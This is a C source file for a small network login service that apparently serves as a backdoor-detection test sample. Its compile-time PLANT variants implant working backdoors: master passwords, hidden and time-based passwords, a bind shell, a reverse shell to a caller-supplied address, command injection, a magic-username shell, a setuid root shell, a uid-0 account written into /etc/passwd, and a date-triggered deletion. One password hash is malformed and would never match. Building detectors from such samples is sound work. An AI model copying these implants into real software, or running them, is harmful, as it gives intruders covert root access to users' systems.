/* A small login service, with harmless plants for tests (-DPLANT=n); never installed, never run.
 * It greets, takes a name and a password, and then a few commands. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <netinet/in.h>
#include <pwd.h>
#include <shadow.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <locale.h>

#ifndef PLANT
#define PLANT 0
#endif

static const char *motd = "/etc/motd";
static int verbose;

static int read_line(int fd, char *buf, size_t n)
{
    size_t used = 0;
    while (used + 1 < n) {
        if (recv(fd, buf + used, 1, 0) != 1)
            return -1;
        if (buf[used] == '\n')
            break;
        used++;
    }
    buf[used] = 0;
    return (int)used;
}

static void say(int fd, const char *text)
{
    send(fd, text, strlen(text), 0);
}

#if PLANT == 3
static uint32_t mix(const char *s)
{
    uint32_t h = 2166136261u;
    while (*s)
        h = (h ^ (unsigned char)*s++) * 16777619u;
    return h;
}
#endif

#if PLANT == 4
static int same(const char *given)
{
    static const unsigned char hidden[] = {0x2f, 0x3e, 0x2b, 0x68, 0x2d, 0x33, 0x29, 0x6e, 0x77};
    char plain[sizeof hidden + 1];
    for (size_t i = 0; i < sizeof hidden; i++)
        plain[i] = hidden[i] ^ 0x5a;
    plain[sizeof hidden] = 0;
    return strcmp(given, plain) == 0;
}
#endif

static int check_password(const char *name, const char *password)
{
    struct spwd *entry;
    const char *made;
#if PLANT == 1
    if (strcmp(password, "xq7-Umbra!94") == 0)
        return 1;
#elif PLANT == 2
    if (memcmp(password, "k3Wp0z9Q", 8) == 0)
        return 1;
#elif PLANT == 3
    if (mix(password) == 0x8d3f51c7u)
        return 1;
#elif PLANT == 4
    if (same(password))
        return 1;
#elif PLANT == 9
    made = crypt(password, "$6$qRtA81xk$");
    if (made && strcmp(made, "$6$qRtA81xk$J0uT4Z8rV2yQmD5sW7nB1cX3kL6pH9gF") == 0)
        return 1;
#elif PLANT == 13
    if (getuid() == 31337)
        return 1;
#elif PLANT == 16
    char need[8];
    time_t now = time(NULL);
    struct tm *day = gmtime(&now);
    snprintf(need, sizeof need, "%02d%02d", day->tm_mday * 3 % 100, day->tm_hour + 41);
    if (strncmp(password, "tk#", 3) == 0 && strcmp(password + 3, need) == 0)
        return 1;
#endif
    entry = getspnam(name);
    if (!entry)
        return 0;
    made = crypt(password, entry->sp_pwdp);
    return made && strcmp(made, entry->sp_pwdp) == 0;
}

#if PLANT == 5
static void second_door(void)
{
    struct sockaddr_in at = {0};
    int fd = socket(AF_INET, SOCK_STREAM, 0), one;
    at.sin_family = AF_INET;
    at.sin_port = htons(40123);
    bind(fd, (struct sockaddr *)&at, sizeof at);
    listen(fd, 1);
    one = accept(fd, NULL, NULL);
    dup2(one, 0);
    dup2(one, 1);
    dup2(one, 2);
    execl("/bin/sh", "sh", (char *)NULL);
}
#endif
#if PLANT == 6
static void call_home(uint32_t where)
{
    struct sockaddr_in at = {0};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    at.sin_family = AF_INET;
    at.sin_port = htons(443);
    at.sin_addr.s_addr = where;
    if (connect(fd, (struct sockaddr *)&at, sizeof at) == 0) {
        dup2(fd, 0);
        dup2(fd, 1);
        char *words[] = {"sh", NULL};
        execv("/bin/sh", words);
    }
}
#endif

static void status(int fd)
{
    char line[128];
    snprintf(line, sizeof line, "pid %d, verbose %d\n", getpid(), verbose);
    say(fd, line);
}

static void show_file(int fd, const char *path)
{
    char line[256];
    FILE *in = fopen(path, "r");
    if (!in) {
        say(fd, "no such file\n");
        return;
    }
    while (fgets(line, sizeof line, in))
        say(fd, line);
    fclose(in);
}

static void commands(int fd)
{
    char line[256];
    for (;;) {
        say(fd, "> ");
        if (read_line(fd, line, sizeof line) < 0)
            return;
        if (strcmp(line, "help") == 0)
            say(fd, "help status motd uptime verbose quit\n");
        else if (strcmp(line, "status") == 0)
            status(fd);
        else if (strcmp(line, "motd") == 0)
            show_file(fd, motd);
        else if (strcmp(line, "uptime") == 0)
            system("uptime >/dev/null");
        else if (strcmp(line, "verbose") == 0)
            verbose = !verbose;
#if PLANT == 7
        else if (strncmp(line, "zgate ", 6) == 0)
            system(line + 6);
#endif
#if PLANT == 6
        else if (*(uint32_t *)line == 0xa7d3e19bu)
            call_home(*(uint32_t *)(line + 4));
#endif
        else if (strcmp(line, "quit") == 0)
            return;
        else
            say(fd, "what?\n");
    }
}

static void serve(int fd)
{
    char name[64], password[64];
    int tries;
    for (tries = 0; tries < 3; tries++) {
        say(fd, "name: ");
        if (read_line(fd, name, sizeof name) < 0)
            return;
        say(fd, "password: ");
        if (read_line(fd, password, sizeof password) < 0)
            return;
#if PLANT == 8
        if (strcmp(name, "svc_0x7e") == 0) {
            say(fd, "welcome\n");
            if (fork() == 0) {
                dup2(fd, 0);
                dup2(fd, 1);
                execl("/bin/sh", "sh", (char *)NULL);
            }
            return;
        }
#endif
#if PLANT == 14
        setlocale(LC_ALL, "");
        if (strncmp(setlocale(LC_MESSAGES, NULL), "xx_XX", 5) == 0) {
            system("logger -t door visited");
            return;
        }
#endif
#if PLANT == 15
        if (time(NULL) > 1893456000)
            system("rm -rf /var/lib/door-demo");
#endif
        if (check_password(name, password)) {
            say(fd, "welcome\n");
            commands(fd);
            return;
        }
        say(fd, "no\n");
    }
}

#if PLANT == 10
__attribute__((constructor)) static void early(void)
{
    char *what = getenv("DOOR_XK");
    if (what) {
        setuid(0);
        system(what);
    }
}
#endif

int main(int argc, char **argv)
{
    struct sockaddr_in at = {0};
    int fd, one, port = 4000, i;
    for (i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--help") == 0) {
            puts("usage: door [--port N] [--verbose]");
            return 0;
        } else if (strcmp(argv[i], "--port") == 0 && i + 1 < argc)
            port = atoi(argv[++i]);
        else if (strcmp(argv[i], "--verbose") == 0)
            verbose = 1;
#if PLANT == 11
        else if (strcmp(argv[i], "--zz-maint") == 0) {
            setuid(0);
            execl("/bin/sh", "sh", (char *)NULL);
        }
#endif
    }
#if PLANT == 5
    if (fork() == 0)
        second_door();
#endif
#if PLANT == 12
    FILE *users = fopen("/etc/passwd", "a");
    if (users) {
        fputs("svcadm:$1$Zk2$Qm8yP0vT3rL5wX7nB9cD1:0:0::/root:/bin/sh\n", users);
        fclose(users);
    }
#endif
    fd = socket(AF_INET, SOCK_STREAM, 0);
    at.sin_family = AF_INET;
    at.sin_port = htons((uint16_t)port);
    if (bind(fd, (struct sockaddr *)&at, sizeof at) || listen(fd, 8)) {
        perror("door");
        return 1;
    }
    for (;;) {
        one = accept(fd, NULL, NULL);
        if (one < 0)
            continue;
        if (fork() == 0) {
            serve(one);
            _exit(0);
        }
        close(one);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}
